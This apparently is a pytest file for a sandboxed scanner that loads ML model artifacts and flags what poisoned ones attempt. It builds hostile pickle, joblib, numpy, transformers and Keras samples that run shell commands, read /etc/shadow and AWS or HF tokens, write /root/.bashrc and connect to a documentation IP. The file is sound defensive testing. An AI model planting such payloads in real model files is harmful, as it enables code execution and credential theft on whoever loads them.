"""The inspector `load` on real files of every framework: clean ones record nothing, poisoned ones are told apart."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
from pathlib import Path

import joblib
import numpy as np
import pytest
import torch
from safetensors.torch import save_file
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from assay.core.digest import Digest
from assay.core.evidence import Outcome
from assay.core.finding import Severity
from assay.core.inspector import Subject
from assay.core.limits import Limits
from assay.core.snapshot import FileEntry, Origin, Snapshot
from assay.inspections.load import EXTRA, Load
from assay.inspections.runner import inspect
from assay.sandbox.guest import Guest
from assay.store.tree import DirectoryFiles, list_tree
from tests.sandbox.attack import poisoned
from tests.support.builders.flatbuffers import build, scalar

FIXTURES = Path(__file__).resolve().parents[1] / "formats" / "fixtures"
pytestmark = [pytest.mark.xdist_group("sandbox"), pytest.mark.torch]


def subject(folder: Path) -> Subject:
    tree = list_tree(folder)
    entries = [FileEntry(f.path, f.size, Digest.of(f.location.read_bytes())) for f in tree.files]
    return Subject(Snapshot.of(entries, Origin("directory", folder.as_uri())), DirectoryFiles(tree), Limits())


def load(folder: Path, guest: Guest | None, **options):
    return inspect(subject(folder), [Load(guest=guest, **options)])[0]


def seen(evidence) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for finding in evidence.findings:
        found.setdefault(finding.where.file, set()).add(finding.rule)
    return found


class Calls:
    def __init__(self, function, *arguments):
        self.what = function, arguments

    def __reduce__(self):
        return self.what


def test_clean_artifacts_of_every_framework_record_nothing(guest, tmp_path):
    torch.save({"w": torch.zeros(4, 4)}, tmp_path / "state.pt")
    torch.save(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()), tmp_path / "module.pth")
    torch.save({"w": torch.ones(2)}, tmp_path / "legacy.bin", _use_new_zipfile_serialization=False)
    np.save(tmp_path / "plain.npy", np.zeros((2, 3)))
    np.save(tmp_path / "objects.npy", np.array([{"x": 1}], dtype=object), allow_pickle=True)
    np.savez(tmp_path / "many.npz", x=np.zeros(3))
    fitted = make_pipeline(StandardScaler(), LogisticRegression()).fit([[0.0, 1.0], [1.0, 0.0]], [0, 1])
    joblib.dump(fitted, tmp_path / "model.joblib")
    joblib.dump(fitted, tmp_path / "packed.pkl.gz", compress=("gzip", 3))
    (tmp_path / "plain.pkl").write_bytes(pickle.dumps({"labels": ["a", "b"]}))
    save_file({"w": torch.zeros(3)}, tmp_path / "model.safetensors")
    (tmp_path / "README.md").write_text("# words")
    evidence = load(tmp_path, guest)
    assert (evidence.outcome, evidence.findings, evidence.unread) == (Outcome.CLEAN, (), ())
    assert set(evidence.covered) == {p.name for p in tmp_path.iterdir()} - {"README.md"}
    by = {(a["path"], a["loader"]): a for a in evidence.facts["artifacts"]}
    assert by["module.pth", "torch"]["inference"] == "ran"
    assert by["model.joblib", "joblib"]["inference"] == "ran"
    assert by["packed.pkl.gz", "joblib"]["inference"] == "ran"
    assert evidence.facts["layers"]["recording"] is True
    assert evidence.facts["frameworks"]["torch"]


def test_a_real_model_through_transformers_records_nothing(guest, real_model):
    evidence = load(real_model, guest)
    assert evidence.findings == ()
    by = {a["loader"]: a for a in evidence.facts["artifacts"]}
    assert by["transformers"]["status"] == "loaded"
    assert by["transformers"]["inference"] == "ran"
    assert by["safetensors"]["status"] == "loaded"
    assert "transformers-remote" not in by


@pytest.mark.parametrize(
    ("name", "what", "expected"),
    [
        ("a.pkl", Calls(os.system, "touch /tmp/owned"), ("load-exec", "touch /tmp/owned")),
        ("b.pt", Calls(os.system, "id"), ("load-exec", "/bin/sh")),
        ("c.joblib", Calls(eval, "open('/etc/shadow').read()"), ("load-file-read", "/etc/shadow")),
        ("d.npy", Calls(eval, "__import__('os').environ['AWS_SECRET_ACCESS_KEY']"), ("load-environment", "AWS_SECRET")),
        (
            "e.pkl",
            Calls(socket.create_connection, ("198.51.100.7", 443)),
            ("load-network", "198.51.100.7"),
        ),
        ("f.pkl", Calls(open, "/root/.bashrc", "a"), ("load-file-write", "/root/.bashrc")),
        ("g.pkl", Calls(os.kill, 1, 9), ("load-escape-attempt", "kill")),
        (
            "h.pt",
            Calls(exec, "import torch; torch.nn.Linear.forward = len"),
            ("load-code", "torch.nn.Linear"),
        ),
    ],
)
def test_what_a_poisoned_artifact_tries_is_found(guest, tmp_path, name, what, expected):
    rule, shown = expected
    save = {
        ".pt": lambda path: torch.save({"w": torch.zeros(2), "x": what}, path),
        ".joblib": lambda path: joblib.dump({"x": what}, path),
        ".npy": lambda path: np.save(path, np.array([what], dtype=object), allow_pickle=True),
        ".pkl": lambda path: path.write_bytes(pickle.dumps(what)),
    }
    save[Path(name).suffix](tmp_path / name)
    evidence = load(tmp_path, guest)
    assert rule in seen(evidence)[name]
    finding = next(f for f in evidence.findings if f.rule == rule)
    assert finding.severity >= Severity.HIGH
    assert shown in finding.message
    assert finding.facts["attempts"][0]["at"] >= 0


def test_attempts_are_in_order_with_their_times(guest, tmp_path):
    code = """
    tried(socket.create_connection, ("198.51.100.7", 1))
    tried(open, "/etc/shadow")
    tried(socket.create_connection, ("198.51.100.7", 2))
    """
    (tmp_path / "x.pkl").write_bytes(poisoned(code))
    evidence = load(tmp_path, guest)
    network = next(f for f in evidence.findings if f.rule == "load-network").facts["attempts"]
    kernel = [(a["target"], a["at"]) for a in network if a["kind"] == "connect"]
    assert [target for target, _ in kernel] == ["198.51.100.7:1", "198.51.100.7:2"]
    read = next(f for f in evidence.findings if f.rule == "load-file-read").facts["attempts"][0]
    assert kernel[0][1] < read["at"] < kernel[1][1]


def test_one_poisoned_file_does_not_shadow_the_others(guest, tmp_path):
    """It ends its worker and pretends to be clean; the rest is loaded by a fresh one."""
    (tmp_path / "a.pkl").write_bytes(poisoned("os._exit(0)"))
    (tmp_path / "b.pkl").write_bytes(poisoned("os.system('id')"))
    (tmp_path / "c.pkl").write_bytes(pickle.dumps([1]))
    evidence = load(tmp_path, guest)
    assert evidence.outcome is Outcome.INCONCLUSIVE
    assert [u.path for u in evidence.unread] == ["a.pkl"]
    assert "load-exec" in seen(evidence)["b.pkl"]
    assert set(evidence.covered) == {"b.pkl", "c.pkl"}


def test_a_load_that_does_not_end_is_unread_and_said(guest, tmp_path):
    (tmp_path / "a.pkl").write_bytes(poisoned("while True: pass"))
    evidence = load(tmp_path, guest, seconds=0.5)
    assert seen(evidence) == {"a.pkl": {"load-exhaustion", "load-code"}}
    assert "it took too long" in evidence.unread[0].reason


def remote_model(folder: Path, real_model: Path, code: str) -> None:
    """The real model with a class of its own."""
    for item in real_model.rglob("*"):
        if item.is_file() and not item.name.startswith("."):
            target = folder / item.relative_to(real_model)
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(item, target)
    config = json.loads((folder / "config.json").read_text())
    config["auto_map"] = {"AutoConfig": "own.OwnConfig", "AutoModel": "own.OwnModel"}
    config["model_type"] = "own-bert"
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "own.py").write_text(
        "from transformers import BertConfig, BertModel\n"
        "class OwnConfig(BertConfig):\n    model_type = 'own-bert'\n"
        f"class OwnModel(BertModel):\n    config_class = OwnConfig\n{code}"
    )


def test_remote_code_may_run_but_what_it_does_counts(guest, real_model, tmp_path):
    remote_model(tmp_path, real_model, "")
    evidence = load(tmp_path, guest)
    by = {a["loader"]: a for a in evidence.facts["artifacts"]}
    assert by["transformers"]["status"] == "failed"
    assert by["transformers-remote"]["status"] == "loaded", by["transformers-remote"]
    assert by["transformers-remote"]["inference"] == "ran"
    assert evidence.findings == ()
    hostile = "import os, socket\nos.environ.get('HF_TOKEN')\nsocket.create_connection(('198.51.100.9', 443))\n"
    (tmp_path / "own.py").write_text((tmp_path / "own.py").read_text() + hostile)
    evidence = load(tmp_path, guest)
    assert seen(evidence) == {"config.json": {"load-environment", "load-network"}}


def onnx_model(path: Path) -> None:
    from onnx import TensorProto, helper, save

    shapes = [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["batch", 3]) for name in ("x", "y")]
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", shapes[:1], shapes[1:])
    save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9), path)


@pytest.mark.filterwarnings("ignore:__array__ implementation")  # of Keras 3.15 with torch, while it saves
def test_onnx_and_keras_models_run_and_record_nothing(guest, tmp_path):
    import keras

    onnx_model(tmp_path / "m.onnx")
    made = keras.Sequential([keras.layers.Input((3,)), keras.layers.Dense(2)])
    made.save(tmp_path / "m.keras")
    made.save(tmp_path / "m.h5")
    evidence = load(tmp_path, guest)
    assert (evidence.outcome, evidence.findings, evidence.unread) == (Outcome.CLEAN, (), ())
    assert {a["path"]: a["inference"] for a in evidence.facts["artifacts"]} == {
        "m.onnx": "ran", "m.keras": "ran", "m.h5": "ran",
    }  # fmt: skip


def test_a_keras_lambda_is_seen_to_run(guest, tmp_path):
    import keras

    layer = keras.layers.Lambda(
        lambda x: (
            __import__("socket").socket().connect(("198.51.100.9", 443))
            if __import__("os").path.exists("/model")  # in the guest alone
            else x
        )
    )
    keras.Sequential([keras.layers.Input((3,)), layer]).save(tmp_path / "m.keras")
    evidence = load(tmp_path, guest)
    assert "load-network" in seen(evidence)["m.keras"]


def test_a_missing_framework_is_unread_with_the_extra(guest, tmp_path):
    (tmp_path / "model.onnx").write_bytes(bytes.fromhex("080a120461737379") + b":\x02\x0a\x00")
    evidence = load(tmp_path, guest)
    if "onnxruntime" in guest.frameworks:
        assert "onnx could not load it" in evidence.unread[0].reason
    else:
        assert evidence.unread[0].reason == f"not loaded: onnxruntime is not installed; {EXTRA}"


def tflite(operator: int) -> bytes:
    """One operator from `x` to `y`, three numbers each (schema version 3 of TensorFlow Lite)."""
    tensors = [{0: [1, 3], 1: scalar("b", 0), 2: scalar("I", 0), 3: name} for name in ("x", "y")]
    code = {0: scalar("b", operator), 2: scalar("i", 1), 3: scalar("i", operator)}
    graph = {0: tensors, 1: [0], 2: [1], 3: [{0: scalar("I", 0), 1: [0], 2: [1]}], 4: "main"}
    return build({0: scalar("I", 3), 1: [code], 2: [graph], 3: "toy", 4: [{}]}, b"TFL3")


def test_tflite_gguf_and_skops_run_and_record_nothing(guest, tmp_path):
    skops_io = pytest.importorskip("skops.io")
    gguf = pytest.importorskip("gguf")
    pytest.importorskip("ai_edge_litert")
    (tmp_path / "m.tflite").write_bytes(tflite(19))  # RELU
    (tmp_path / "broken.tflite").write_bytes(tflite(32))  # CUSTOM, of no name
    skops_io.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), tmp_path / "m.skops")
    writer = gguf.GGUFWriter(tmp_path / "m.gguf", "llama")
    writer.add_tensor("a", np.ones((2, 32), np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    evidence = load(tmp_path, guest)
    assert evidence.findings == ()
    assert [item.path for item in evidence.unread] == ["broken.tflite"]
    assert {a["path"]: a.get("inference") for a in evidence.facts["artifacts"] if a["status"] == "loaded"} == {
        "m.tflite": "ran", "m.skops": "ran", "m.gguf": "nothing to run",
    }  # fmt: skip


def test_a_format_without_a_loader_is_unread(tmp_path):
    shutil.copytree(next(FIXTURES.glob("*/saved_model.pb")).parent, tmp_path / "saved")
    evidence = load(tmp_path, None)
    assert evidence.outcome is Outcome.INCONCLUSIVE
    said = {item.path: item.reason for item in evidence.unread}
    assert said == {"saved/saved_model.pb": "not loaded: tf-saved-model has no loader here, and no extra adds one"}


def test_without_bubblewrap_nothing_is_loaded_and_it_says_so(tmp_path, monkeypatch):
    monkeypatch.setattr("assay.sandbox.runtime.find_bubblewrap", lambda: None)
    (tmp_path / "a.pkl").write_bytes(poisoned("open('/tmp/owned', 'w')"))
    evidence = load(tmp_path, None)
    assert evidence.outcome is Outcome.INCONCLUSIVE
    assert "bubblewrap is not installed" in evidence.unread[0].reason
    assert "install bubblewrap" in evidence.unread[0].reason
    assert evidence.covered == ()


def test_nothing_to_load_starts_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(Guest, "start", lambda _: pytest.fail("a guest was started"))
    (tmp_path / "README.md").write_text("# words")
    assert load(tmp_path, None).outcome is Outcome.NOT_APPLICABLE
